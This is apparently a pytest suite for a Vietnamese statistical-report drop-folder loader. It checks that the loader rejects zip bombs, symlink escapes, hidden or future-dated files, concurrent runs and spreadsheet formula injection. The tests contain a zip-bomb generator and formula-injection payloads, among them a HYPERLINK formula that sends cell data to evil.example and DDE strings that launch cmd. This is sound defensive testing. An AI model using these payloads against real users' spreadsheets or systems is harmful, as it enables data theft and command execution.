"""Hostile files in a drop folder (issue 12), on a real PostgreSQL with real files.

A zip bomb, a symlink out of the folder, formula injection, hidden and future-dated files, and
two drop runs at once: each case lands nothing it should not and says why, in the run's log and
in `ops.drop_file` (or, for formulas, at the gate).
"""

from __future__ import annotations

import csv
import io
import logging
import os
import threading
import time
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import psycopg
import pytest
from openpyxl import Workbook

import connectors.drop_jobs as drop_jobs
import connectors.spreadsheets as spreadsheets
from connectors.cell_safety import looks_like_formula, neutralise
from connectors.drop_jobs import land_dropped_files
from connectors.landing import LoadInProgressError
from connectors.spreadsheets import SpreadsheetError, detect_form, load_forms
from expectations.gate import BatchRules, run_gate

SOURCE = "ninh_binh_stat_reports"
ENTITY = "stat_form_04"
OLD = datetime(2025, 3, 15, 2, 30, tzinfo=UTC)
MiB = 1 << 20

HEADING = [
    ["Biểu số: 04/KHCN-NV", None, None, "NHIỆM VỤ KHOA HỌC VÀ CÔNG NGHỆ"],
    ["Đơn vị báo cáo: Sở KH&CN tỉnh Ninh Bình", None, None, "Năm báo cáo: 2024"],
    ["Tỉnh/thành phố: Ninh Bình"],
    [],
]
HEADER = [
    ["STT", "Tên nhiệm vụ", "Mã số", "Cấp quản lý", "Lĩnh vực (mã)", "Tổ chức chủ trì",
     "Kinh phí (triệu đồng)", None, "Thời gian thực hiện", None, "Tình trạng", "Ghi chú"],
    [None, None, None, None, None, None, "NSNN", "Khác", "Bắt đầu", "Kết thúc", None, None],
]  # fmt: skip


def task_row(n: int, note: str | None = None) -> list[Any]:
    """A clean row of form 04 (sheet row 6 + n), with `note` in its Ghi chú column."""
    return [n, f"Nghiên cứu giống lúa chịu mặn {n}", f"NB.2024.ĐT.{n:02d}", "Cấp tỉnh", "40106",
            "Trường Đại học Hoa Lư", "120", "0", "05/03/2024", "31/12/2025", "Đang thực hiện",
            note]  # fmt: skip


def write_csv(path: Path, rows: list[list[Any]], *, at: datetime = OLD) -> Path:
    """A form 04 file as Excel's "CSV UTF-8" writes it; modified at `at`."""
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="utf-8-sig", newline="") as handle:
        writer = csv.writer(handle, delimiter=";")
        for row in HEADING + HEADER + rows:
            writer.writerow(["" if v is None else v for v in row])
    os.utime(path, (at.timestamp(), at.timestamp()))
    return path


def drop_files(url: str) -> dict[str, tuple[str, str | None]]:
    """ops.drop_file of the source: file name -> (state, error)."""
    with psycopg.connect(url) as conn:
        rows = conn.execute(
            "select file_name, state, error from ops.drop_file where source_id = %s", (SOURCE,)
        ).fetchall()
    return {name: (state, error) for name, state, error in rows}


def landed_rows(url: str) -> int:
    with psycopg.connect(url) as conn:
        return conn.execute("select count(*) from raw.landed_record").fetchone()[0]


# --- Zip bomb ---------------------------------------------------------------------------------


def write_bomb(path: Path, padding: int) -> Path:
    """A real form 04 workbook whose sheet XML carries `padding` bytes of whitespace (valid XML,
    deflating ~1000:1): a small file that inflates big, written in chunks (no big buffer)."""
    workbook = Workbook()
    sheet = workbook.active
    sheet.title = "Biểu 04"
    for row in HEADING + HEADER + [task_row(1)]:
        sheet.append(row)
    plain = io.BytesIO()
    workbook.save(plain)
    with zipfile.ZipFile(plain) as source, zipfile.ZipFile(path, "w") as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename != "xl/worksheets/sheet1.xml":
                target.writestr(info, data, compress_type=zipfile.ZIP_DEFLATED)
                continue
            head, tail = data.rsplit(b"</worksheet>", 1)
            member_info = zipfile.ZipInfo(info.filename, date_time=info.date_time)
            member_info.compress_type = zipfile.ZIP_DEFLATED
            with target.open(member_info, "w", force_zip64=True) as member:
                member.write(head)
                chunk = b" " * MiB
                for _ in range(padding // MiB):
                    member.write(chunk)
                member.write(b"</worksheet>" + tail)
    os.utime(path, (OLD.timestamp(), OLD.timestamp()))
    return path


def test_a_zip_bomb_is_rejected_from_its_central_directory_before_it_is_read(
    warehouse_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Inflating past the total limit: refused without openpyxl opening it, recorded."""
    folder = tmp_path / "drops"
    folder.mkdir()
    bomb = write_bomb(folder / "04_ninh_binh_2024.xlsx", 128 * MiB)
    assert bomb.stat().st_size < 1 * MiB  # small on disk
    write_csv(folder / "04_ninh_binh_2023.csv", [task_row(1)])  # the others still land

    def never(*_: Any, **__: Any) -> None:
        raise AssertionError("the workbook was opened")

    monkeypatch.setattr(spreadsheets, "load_workbook", never)
    with pytest.raises(SpreadsheetError, match="zip bomb") as caught:
        detect_form(bomb, load_forms())
    assert "MiB" in str(caught.value) and "limit" in str(caught.value)
    monkeypatch.undo()

    outcome = land_dropped_files(warehouse_url, SOURCE, ENTITY, str(folder))
    assert len(outcome.batches) == 1
    (error,) = outcome.rejected
    assert error.startswith("04_ninh_binh_2024.xlsx: ") and "zip bomb" in error
    state, recorded = drop_files(warehouse_url)["04_ninh_binh_2024.xlsx"]
    assert state == "rejected" and recorded == error
    # Recorded: the next run does not open it again.
    assert land_dropped_files(warehouse_url, SOURCE, ENTITY, str(folder)).rejected == []


def test_a_member_deflated_beyond_the_ratio_limit_is_rejected(
    warehouse_url: str, tmp_path: Path
) -> None:
    """A few MiB in all (under the total limit), but ~1000:1: what a bomb looks like."""
    folder = tmp_path / "drops"
    folder.mkdir()
    write_bomb(folder / "04_ninh_binh_2024.xlsx", 8 * MiB)
    outcome = land_dropped_files(warehouse_url, SOURCE, ENTITY, str(folder))
    assert outcome.batches == []
    (error,) = outcome.rejected
    assert "xl/worksheets/sheet1.xml" in error and "zip bomb" in error
    assert drop_files(warehouse_url)["04_ninh_binh_2024.xlsx"][0] == "rejected"
    assert landed_rows(warehouse_url) == 0


def test_an_ordinary_workbook_is_well_within_the_limits(tmp_path: Path) -> None:
    path = write_bomb(tmp_path / "04_ninh_binh_2024.xlsx", 0)
    assert detect_form(path, load_forms()).entity == ENTITY


# --- Symlink escape ---------------------------------------------------------------------------


def test_a_symlink_out_of_the_drop_folder_is_rejected_and_recorded(
    warehouse_url: str, tmp_path: Path
) -> None:
    outside = write_csv(tmp_path / "elsewhere" / "secret.csv", [task_row(n) for n in range(1, 11)])
    folder = tmp_path / "drops"
    folder.mkdir()
    (folder / "04_ninh_binh_2024.csv").symlink_to(outside)
    # A link to a file inside the folder is an ordinary drop.
    inside = write_csv(folder / "2023" / "04_ninh_binh_2023.csv", [task_row(1)])
    (folder / "04_ninh_binh_2023.csv").symlink_to(inside)

    outcome = land_dropped_files(warehouse_url, SOURCE, ENTITY, str(folder))
    assert [b.records_landed for b in outcome.batches] == [1]
    (error,) = outcome.rejected
    assert error.startswith("04_ninh_binh_2024.csv: ") and "outside the drop folder" in error
    assert drop_files(warehouse_url)["04_ninh_binh_2024.csv"] == ("rejected", error)
    assert landed_rows(warehouse_url) == 1  # not the 10 rows outside


# --- Hidden and future-dated files ------------------------------------------------------------


def test_hidden_and_future_dated_files_are_skipped_with_a_log_line_and_a_record(
    warehouse_url: str, tmp_path: Path, caplog: pytest.LogCaptureFixture
) -> None:
    folder = tmp_path / "drops"
    hidden = write_csv(folder / ".04_ninh_binh_2022.csv", [task_row(1)])
    tomorrow = datetime.now(UTC) + timedelta(days=1)
    future = write_csv(folder / "04_ninh_binh_2023.csv", [task_row(2)], at=tomorrow)
    write_csv(folder / "04_ninh_binh_2024.csv", [task_row(3)])
    write_csv(folder / "~$04_ninh_binh_2024.csv", [task_row(4)])  # Excel's lock file: silent

    with caplog.at_level(logging.INFO):
        outcome = land_dropped_files(warehouse_url, SOURCE, ENTITY, str(folder))
    assert len(outcome.batches) == 1 and not outcome.rejected
    skipped = [r.getMessage() for r in caplog.records if r.levelno >= logging.WARNING]
    assert any(".04_ninh_binh_2022.csv" in m and "hidden" in m for m in skipped), skipped
    assert any("04_ninh_binh_2023.csv" in m and "in the future" in m for m in skipped), skipped
    recorded = drop_files(warehouse_url)
    assert recorded[".04_ninh_binh_2022.csv"][0] == "skipped"
    assert "hidden" in recorded[".04_ninh_binh_2022.csv"][1]
    assert recorded["04_ninh_binh_2023.csv"][0] == "skipped"
    assert "in the future" in recorded["04_ninh_binh_2023.csv"][1]
    assert "~$04_ninh_binh_2024.csv" not in recorded

    # A second run records nothing twice; once fixed, a skipped file lands like any other.
    land_dropped_files(warehouse_url, SOURCE, ENTITY, str(folder))
    assert len(drop_files(warehouse_url)) == 3
    os.utime(future, (OLD.timestamp(), OLD.timestamp()))
    hidden.rename(folder / "04_ninh_binh_2022.csv")
    outcome = land_dropped_files(warehouse_url, SOURCE, ENTITY, str(folder))
    assert len(outcome.batches) == 2 and not outcome.rejected
    recorded = drop_files(warehouse_url)
    assert recorded["04_ninh_binh_2023.csv"] == ("landed", None)
    assert recorded["04_ninh_binh_2022.csv"] == ("landed", None)  # the same content, renamed


# --- Two drop runs at once --------------------------------------------------------------------


def test_a_second_drop_run_while_one_runs_says_another_load_is_running(
    warehouse_url: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Run 1 has landed its first file and is reading the second when run 2 starts: run 2 must
    stop with LoadInProgressError, not land the second file too (run 1 then failed on
    UniqueViolation drop_file_pkey)."""
    folder = tmp_path / "drops"
    write_csv(folder / "04_ninh_binh_2023.csv", [task_row(1)])
    write_csv(folder / "04_ninh_binh_2024.csv", [task_row(2)])
    reading_second, go_on = threading.Event(), threading.Event()
    real_detect_form = drop_jobs.detect_form
    first_run: dict[str, Any] = {}

    def detect_form_pausing(path: Path, forms: Any, *, name: str | None = None) -> Any:
        if threading.current_thread().name == "run-1" and name == "04_ninh_binh_2024.csv":
            reading_second.set()
            assert go_on.wait(30)
        return real_detect_form(path, forms, name=name)

    def run_1() -> None:
        try:
            first_run["outcome"] = land_dropped_files(warehouse_url, SOURCE, ENTITY, str(folder))
        except BaseException as error:  # reported by the test below
            first_run["error"] = error

    monkeypatch.setattr(drop_jobs, "detect_form", detect_form_pausing)
    thread = threading.Thread(target=run_1, name="run-1")
    thread.start()
    try:
        assert reading_second.wait(30)
        time.sleep(0.1)
        with pytest.raises(LoadInProgressError, match=r"another load of .* is running"):
            land_dropped_files(warehouse_url, SOURCE, ENTITY, str(folder))
    finally:
        go_on.set()
        thread.join(60)
    assert "error" not in first_run, first_run.get("error")
    assert len(first_run["outcome"].batches) == 2
    assert {s for s, _ in drop_files(warehouse_url).values()} == {"landed"}


# --- Formula injection ------------------------------------------------------------------------

FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1;"Xem chi tiết")',
    "=1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C notepad'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "- Nghiên cứu",  # Excel reads it as a formula too (#NAME?)
    "+84-912-345-678",  # Excel computes 84 - 912 - 345 - 678
]
PLAIN = [
    "-5",
    "-0.3",
    "-0,3",
    "-1.234,5",
    "+84 912 345 678",
    "+84912345678",
    "-5%",
    "-1e5",
    "-",  # the placeholder for "none"
    "+",
    "5-3",
    "a=b",
    "Hà Nội",
    "",
]


def test_the_formula_rule_is_the_same_in_python_and_at_the_gate(warehouse_url: str) -> None:
    """Starts with = @ tab CR, or with + - followed by something that is not a plain number."""
    values = FORMULAS + PLAIN
    with psycopg.connect(warehouse_url) as conn:
        found = conn.execute(
            "select ops.formula_like(jsonb_build_object('ghi_chu', v)) from unnest(%s::text[])"
            " with ordinality as t(v, n) order by n",
            (values,),
        ).fetchall()
    assert {v for v in values if looks_like_formula(v)} == set(FORMULAS)
    assert {v for v, (f,) in zip(values, found, strict=True) if f is not None} == set(FORMULAS)
    assert found[0][0].startswith("ghi_chu ")


def test_neutralise_prefixes_a_single_quote_to_formulas_only() -> None:
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("-2+3+cmd|' /C calc'!A0") == "'-2+3+cmd|' /C calc'!A0"
    assert neutralise("-0.3") == "-0.3"
    assert neutralise("+84 912 345 678") == "+84 912 345 678"
    assert neutralise(-5) == -5 and neutralise(None) is None


def test_formula_values_land_as_sent_and_are_warned_about_at_the_gate(
    warehouse_url: str, tmp_path: Path
) -> None:
    bad = FORMULAS[:5]
    good = ["-5", "-0,3", "Gia hạn 6 tháng", None]
    notes = bad + good
    folder = tmp_path / "drops"
    write_csv(
        folder / "04_ninh_binh_2024.csv", [task_row(n, note) for n, note in enumerate(notes, 1)]
    )
    (landed,) = land_dropped_files(warehouse_url, SOURCE, ENTITY, str(folder)).batches
    result = run_gate(
        warehouse_url,
        landed.batch_id,
        rules=BatchRules(max_quarantined_share=1.0),
        report_dir=tmp_path / "reports",
    )
    assert result.success and result.quarantined == 0
    with psycopg.connect(warehouse_url) as conn:
        payloads = dict(
            conn.execute(
                "select (payload ->> '_row')::int, payload ->> 'ghi_chu' from raw.landed_record"
            ).fetchall()
        )
        warned = dict(
            conn.execute(
                "select (r.payload ->> '_row')::int, w.reason || ' | ' || w.reason_vi"
                " from ops.quality_warning as w join raw.landed_record as r using (landed_id)"
                " where w.expectation = 'column_values_to_be_null(formula_like)'"
            ).fetchall()
        )
    rows = {6 + n: note for n, note in enumerate(notes, 1)}
    assert payloads == rows  # the evidence, as sent
    assert set(warned) == {row for row, note in rows.items() if note in bad}
    reason = warned[7]
    assert "formula" in reason and "công thức" in reason and "row 7" in reason
